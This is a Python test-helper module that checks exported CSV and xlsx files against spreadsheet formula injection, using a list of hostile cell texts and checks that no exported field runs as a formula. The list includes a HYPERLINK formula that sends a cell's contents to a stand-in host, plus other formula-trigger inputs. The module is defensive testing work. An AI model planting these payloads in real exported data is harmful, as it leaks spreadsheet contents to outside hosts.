"""Hostile texts and the checks that a CSV or .xlsx handed out will never run them."""

from __future__ import annotations

import csv
import io
import re

from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

# Text a user can type that a spreadsheet would run (or, "#N/A", turn into an error value).
HOSTILE_TEXTS = [
    '=HYPERLINK("http://x/"&B2,"x")',
    "\t=1+1",
    "\n=cmd",
    " =1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "#N/A",
]
_RUNS = ("=", "+", "-", "@", "\t", "\r", "\n")
_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")  # a negative number is a number, not a formula


def inert_csv_fields(body: bytes) -> list[str]:
    """Return every field of a CSV download after checking that none can run as a formula."""
    fields = [f for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for f in row]
    running = [
        f
        for f in fields
        if not _NUMBER.match(f) and (f.startswith(_RUNS) or f.lstrip().startswith(_RUNS[:4]))
    ]
    assert running == [], running
    return fields


def inert_xlsx_cells(data: bytes) -> list[Cell]:
    """Return every cell of a workbook after checking that none is a formula or an error."""
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    running = [(c.parent.title, c.coordinate) for c in cells if c.data_type in ("f", "e")]
    assert running == [], running
    return cells


def typed_texts(cells: list[Cell], texts: list[str]) -> dict[str, Cell]:
    """Return the cells holding exactly these texts, checking each is quote-prefixed text."""
    found = {cell.value: cell for cell in cells if cell.value in texts}
    assert all(c.data_type == "s" and c.quotePrefix for c in found.values()), found
    return found
